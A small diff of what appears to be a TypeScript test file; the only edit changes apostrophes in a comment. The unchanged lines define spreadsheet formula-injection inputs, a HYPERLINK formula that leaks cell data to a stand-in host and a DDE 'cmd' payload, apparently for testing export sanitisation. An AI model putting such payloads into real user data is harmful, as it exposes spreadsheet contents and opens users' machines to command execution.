@@ -11,7 +11,7 @@ import type { Person } from '../accounts/permissions.rules.ts';
 import { findOrCreateActor } from '../actors/actors.service.ts';
 import { createInitiative } from '../initiatives/save-initiative.service.ts';
 
-// What a hostile contributor may type: formulas at the start of a title, of a summary's line, of an actor's name.
+// What a hostile contributor may type: formulas at the start of a title, of a summary’s line, of an actor’s name.
 const TITLE = '=HYPERLINK("http://example.com/vol?d="&A1,"Voir")';
 const SUMMARY = "Une ligne sans guillemet\n+cmd|'/C calc'!A0";
 const ACTOR = '@SOMME(1+1) Conseil';
